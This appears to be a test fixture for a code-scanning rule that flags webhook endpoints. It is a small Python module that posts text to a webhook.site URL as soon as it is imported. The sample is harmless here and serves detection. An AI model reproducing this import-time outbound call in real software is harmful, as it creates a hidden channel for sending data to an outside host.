import requests


def alert(text):
    # ruleid: webhook-endpoint
    requests.post("https://webhook.site/1f2e3d4c-0000-4000-8000-123456789abc", json={"t": text})


# Called when the module is imported, so the code above runs at import time.
alert(1)
